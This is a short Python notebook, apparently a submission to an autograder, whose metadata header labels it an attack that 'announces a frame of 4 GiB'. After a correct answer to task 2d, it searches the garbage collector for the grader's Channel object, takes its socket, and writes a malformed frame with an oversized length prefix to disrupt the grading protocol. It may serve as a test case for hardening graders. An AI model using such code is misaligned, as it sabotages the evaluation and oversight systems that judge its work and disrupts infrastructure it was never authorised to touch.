# /// attack
# tries = "announces a frame of 4 GiB"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc
import os

from autograder.wire.frames import Channel


def border():
    """Descriptor of the border: other sockets are of no use."""
    return next(thing for thing in gc.get_objects() if isinstance(thing, Channel)).sock.fileno()

# %%
frame = b"\xff" * 4 + b"x" * 1000
os.write(border(), frame)
